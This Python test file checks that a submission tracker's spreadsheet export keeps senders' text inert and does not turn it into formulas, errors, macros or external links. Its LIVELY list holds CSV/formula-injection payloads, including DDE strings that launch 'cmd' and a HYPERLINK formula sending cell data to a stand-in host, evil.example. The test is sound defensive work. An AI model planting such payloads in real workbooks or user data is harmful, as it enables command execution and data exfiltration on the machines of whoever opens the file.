"""A sender's text looks like a formula, an error or a number: in the workbook it is text."""

import io
import re
import zipfile

import pytest
from tracker import desks

from intake.model import Filled

LIVELY = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"点这里")',
    "+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "=",
)
ERRORS = ("#N/A", "#REF!", "#DIV/0!", "TRUE", "13800000000", "1e5", "2020-12-18", "'=1+1")
TEXTS = (*LIVELY, *ERRORS)


@pytest.fixture(scope="module")
def content():
    """Works and letters that carry these texts wherever senders' words go."""
    works = [work(f"AH-{i:03}", text) for i, text in enumerate(TEXTS, 1)]
    letters = [
        desks.row(100 - i, desks.letter(text, name=text, address=text), reason=text)
        for i, text in enumerate(TEXTS)
    ]
    return desks.drawn(desks.desk(works, letters))


def work(number, text):
    """A late work: it is shown in all sheets."""
    filled = Filled(raw=text, value=text)
    a_form = desks.form(
        text,
        text,
        contact_name=filled,
        contact_phone=filled,
        genre=filled,
        categories=Filled(raw=text, value=(text,)),
    )
    whole = desks.case(number, a_form=a_form, received_at=desks.CLOSES)
    return desks.dossier(number, whole, title=text, school=text)


def test_hostile_text_stays_text(content):
    works = desks.table(content, "作品登记")
    letters = desks.table(content, "来信日志")

    for name in ("选送学校", "类型", "内容分类", "联系人", "电话"):
        assert [row[name] for row in works] == list(TEXTS)
    for name in ("发件人", "地址", "主题"):
        assert [row[name] for row in letters] == list(TEXTS)
    assert [row["片名"] for row in works] == [f"《{text}》" for text in TEXTS]


def test_no_cell_becomes_a_formula_or_an_error(content):
    kinds = {c.data_type for ws in desks.opened(content) for row in ws.iter_rows() for c in row}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}

    assert kinds == {"s", "n", "d"}
    assert not any(re.search(b"<f[ />]", parts[n]) for n in parts if "worksheets/sheet" in n)
    assert not any("vba" in name or "externalLink" in name for name in parts)


def test_text_that_would_come_alive_when_edited_is_quoted(content):
    sheet = desks.opened(content)["来信日志"]

    quoted = {row[3].value: bool(row[3].quotePrefix) for row in sheet.iter_rows(min_row=4)}
    assert quoted == {text: text in LIVELY for text in TEXTS}
